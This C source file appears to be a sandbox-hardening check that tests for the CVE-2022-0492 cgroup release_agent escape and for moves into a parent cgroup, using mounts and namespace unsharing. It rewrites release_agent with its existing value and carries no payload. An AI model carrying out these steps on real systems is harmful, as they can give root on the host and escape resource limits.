/* SPDX-License-Identifier: Apache-2.0 */
/* Attack 14 (CVE-2022-0492): root of the host by a cgroup v1 release_agent, and out of one's
 * limits by moving to a parent group. `cgroup DIR [PARENT]`: PARENT is the group above, where
 * the control knows it. A release_agent is only rewritten with what it says. */
#include "attempt.h"

#include <fcntl.h>
#include <ftw.h>
#include <sched.h>
#include <stdbool.h>
#include <sys/mount.h>
#include <sys/stat.h>

static const char *dir;
static const char *parent;
static const char *wanted;
static char found[4096];

static int on_entry(const char *path, const struct stat *st, int type, struct FTW *ftw)
{
    (void)st;
    if (type != FTW_F || strcmp(path + ftw->base, wanted) != 0)
        return 0;
    (void)snprintf(found, sizeof(found), "%s", path);
    return 1;
}

static long rewrite(const char *path)
{
    char value[4096];
    int in = open(path, O_RDONLY);
    ssize_t n = in < 0 ? -1 : read(in, value, sizeof(value));
    int out = n < 0 ? -1 : open(path, O_WRONLY);
    return out < 0 ? -1 : write(out, n > 0 ? value : "\n", n > 0 ? (size_t)n : 1);
}

static long agent_in_sight(void)
{
    wanted = "release_agent";
    if (nftw("/sys/fs/cgroup", on_entry, 32, FTW_PHYS) != 1)
        return fail_with(ENOENT);
    return rewrite(found);
}

static long agent_by_mount(void)
{
    char path[4200];
    (void)snprintf(path, sizeof(path), "%s/release_agent", dir);
    if (mount("cgroup", dir, "cgroup", 0, "cpu") < 0)
        return -1;
    return rewrite(path);
}

static long agent_by_namespaces(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
        return -1;
    return mount("cgroup", dir, "cgroup", 0, "cpu");
}

static long unshare_cgroup(void)
{
    return unshare(CLONE_NEWCGROUP);
}

/* A group above the root of the namespace is shown as /.. */
static bool is_outside(void)
{
    char text[4096] = "";
    int fd = open("/proc/self/cgroup", O_RDONLY);
    (void)!read(fd, text, sizeof(text) - 1);
    close(fd);
    return strstr(text, "/..") != NULL;
}

static long move_up(void)
{
    wanted = "cgroup.procs";
    if (parent)
        (void)snprintf(found, sizeof(found), "%s/cgroup.procs", parent);
    else if (nftw("/sys/fs/cgroup", on_entry, 32, FTW_PHYS) != 1)
        return fail_with(ENOENT);
    int fd = open(found, O_WRONLY);
    long r = fd < 0 ? -1 : write(fd, "0", 1);
    /* in a group of its own it may write: that is no way up */
    return r < 0 || parent || is_outside() ? r : fail_with(EPERM);
}

static long move_up_by_mount(void)
{
    char path[4300];
    const char *name = parent ? strrchr(parent, '/') : "";
    if (mount("cgroup2", dir, "cgroup2", 0, NULL) < 0)
        return -1;
    (void)snprintf(path, sizeof(path), "%s%s/cgroup.procs", dir, name);
    int fd = open(path, O_WRONLY);
    return fd < 0 ? -1 : write(fd, "0", 1);
}

int main(int argc, char **argv)
{
    if (argc < 2)
        return 2;
    dir = argv[1];
    parent = argc > 2 ? argv[2] : NULL;
    (void)mkdir(dir, 0700);
    attempt("release_agent_in_sight", agent_in_sight);
    attempt("release_agent_by_mount", agent_by_mount);
    (void)umount2(dir, MNT_DETACH);
    attempt("cgroup_in_new_userns", agent_by_namespaces);
    attempt("unshare_cgroup", unshare_cgroup);
    attempt("move_to_parent", move_up);
    attempt("move_to_parent_by_mount", move_up_by_mount);
    (void)umount2(dir, MNT_DETACH);
    return 0;
}
